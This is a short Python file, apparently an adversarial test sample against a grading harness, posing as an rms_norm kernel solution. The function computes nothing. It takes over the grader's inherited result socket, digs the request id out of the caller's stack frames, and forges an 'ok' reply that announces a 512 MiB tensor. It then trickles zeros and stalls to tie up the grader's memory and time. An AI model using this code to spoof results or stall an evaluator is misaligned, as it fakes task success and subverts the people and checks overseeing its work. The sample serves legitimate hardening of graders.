"""Write a reply of its own straight into the result channel: a frame that announces a
512 MiB buffer (the grader would reserve it) and then trickles zeros.  It even answers with
the request's id, dug out of the worker's own stack frames."""
import json
import os
import socket
import stat
import struct
import sys
import time

TARGETS = {}


def _channel():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
    raise RuntimeError("no channel")


def _request_id():
    frame = sys._getframe()
    while frame is not None:
        if "rid" in frame.f_locals:
            return frame.f_locals["rid"]
        frame = frame.f_back
    return None


def rms_norm(x, weight, eps=1e-5):
    sock = _channel()
    result = {"__tensor__": 0, "dtype": "uint8", "shape": [536870912]}
    header = json.dumps({"status": "ok", "rid": _request_id(), "result": result}).encode()
    sock.sendall(b"LPv1" + struct.pack("<I", len(header)) + header + struct.pack("<I", 1) + struct.pack("<Q", 512 << 20))
    chunk = bytes(1 << 20)
    for _ in range(512):
        sock.sendall(chunk)
        time.sleep(0.01)
    time.sleep(60)
